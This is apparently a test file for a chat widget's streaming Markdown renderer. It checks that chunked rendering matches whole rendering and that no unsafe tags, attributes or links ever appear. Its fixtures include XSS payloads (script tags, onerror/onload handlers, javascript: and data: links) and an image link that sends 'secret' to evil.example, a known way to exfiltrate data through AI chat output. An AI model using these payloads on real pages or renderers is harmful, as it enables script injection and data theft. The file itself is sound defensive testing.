/** Streaming: however an answer is cut up on its way, the same page comes out, and never a script. */

import assert from "node:assert/strict";
import { test } from "node:test";

import { document, Node } from "./small_dom.mjs";

Object.assign(globalThis, { document, Node });
const { GrowingMarkdown, renderMarkdown } = await import("../../static/widget/markdown.js");

const ANSWERS = 50;
const SPLITS = 2_000;
const HARMLESS = new Set("div p h3 h4 h5 h6 ul ol li strong em code pre a br table thead tbody tr th td blockquote hr span sup".split(" "));
const ADDRESS = /^(?:https?:\/\/[^/]|mailto:|\/(?!\/))/;

const PIECES = [
  "# Care\n\n", "## Cleaning *the* filter ##\n\n",
  "To clean the **drain *pump* filter**, see [the manual](https://example.com/a_(b)) [1].\n\n",
  "1. Open the `flap`\n   - lint\n     - even **deeper**\n       1. and `ordered`\n   - coins\n\n     and more\n2. Close it [2]\n\n",
  "- one\n- two\n\n- three after a blank\n* another list\n\n",
  "| A | B |\n|:-:|--:|\n| 1 \\| 2 | **x** |\n| only |\n\n", "| Programme | Time | Water |\n|---|---|---:|\n| Cotton | 2:10 h | [52 l](https://example.com) |\n\n",
  "```sh\nrun **this** <b>\n\n- not a list\n```\n\n", "~~~\ntilde ``` inside\n~~~\n\n", "Use ``a ` b`` or `--off` here.\n\n",
  "> quoted _words_\n> - with a list\n>\n> > and deeper\n\n", "---\n\n", "See https://example.com/x?a=1&b=2. Or mailto:me.\n\n",
  "<script>alert(1)</script> <img src=x onerror=alert(1)>\n\n", "[a](javascript:alert(1)) [b](JaVaScRiPt:x) [c](data:text/html,x) [d](//evil.example/x)\n\n",
  "![exfiltrate](https://evil.example/?d=secret) ![](/own.png)\n\n", "<svg/onload=alert(1)> &lt;b&gt; <!-- gone? --> <a href=\"https://evil.example\">x</a>\n\n",
  "2 * 3 * 4, snake_case_name, a ** b, \\*starred\\*, 5* and [9] [123]\n\n", "מסנן **המשאבה** 🧺🧼 すみません *強調* です\n\n", "A line\nand the **next\none** goes on\\\nhere\n\n",
  "**open and never closed\n\n", "[half](https://example.com\n\n", "`code without an end\n\n", "*a **b *c** d*\n\n", "[[1]](https://example.com) [x [y](https://a.example) z](https://b.example)\n\n",
];

/** Numbers that are the same in every run: mulberry32. */
function* dice(seed) {
  for (;;) {
    seed = (seed + 0x6d2b79f5) | 0;
    let mixed = Math.imul(seed ^ (seed >>> 15), 1 | seed);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    yield ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  }
}

const thrown = dice(20260101);
const below = (most) => Math.floor(thrown.next().value * most);

function answers() {
  return Array.from({ length: ANSWERS }, (_, index) => {
    const pieces = Array.from({ length: 2 + below(6) }, () => PIECES[below(PIECES.length)]);
    return `${PIECES[index % PIECES.length]}${pieces.join("")}The end.`;
  });
}

const cite = (number) => {
  const chip = document.createElement("sup");
  chip.append(String(number));
  return number <= 2 ? chip : null;
};

function page(nodes) {
  const root = document.createElement("div");
  root.append(...nodes);
  return root;
}

/** Paint the text as it comes in pieces of a few characters. */
function streamed(text, longest) {
  const root = document.createElement("div");
  const growing = new GrowingMarkdown(root, cite);
  const characters = [...text];
  for (let end = 0; end < characters.length; ) {
    end = Math.min(characters.length, end + 1 + below(longest));
    growing.update(characters.slice(0, end).join(""));
  }
  return root;
}

test(`${SPLITS} random splits of ${ANSWERS} answers give the page of the whole text`, () => {
  let splits = 0;
  for (const text of answers()) {
    const whole = page(renderMarkdown(text, cite)).see();
    for (let split = 0; split < SPLITS / ANSWERS; split += 1, splits += 1) {
      assert.equal(streamed(text, [3, 12, 60, 400][split % 4]).see(), whole, JSON.stringify(text));
    }
  }
  assert.equal(splits, SPLITS);
});

test("at no moment is there an element, an attribute or an address that could do harm", () => {
  for (const text of answers()) {
    const root = document.createElement("div");
    const growing = new GrowingMarkdown(root, cite);
    for (let end = 1; end <= text.length; end += 1 + below(5)) {
      growing.update(text.slice(0, end));
      for (const { tag, attributes } of root.all()) {
        assert.ok(HARMLESS.has(tag), tag);
        for (const [name, value] of Object.entries(attributes)) {
          assert.match(name, /^(?:href|rel|target|class|scope|start|tabindex|role)$/);
          if (name === "href") assert.match(value, ADDRESS);
        }
      }
    }
  }
});
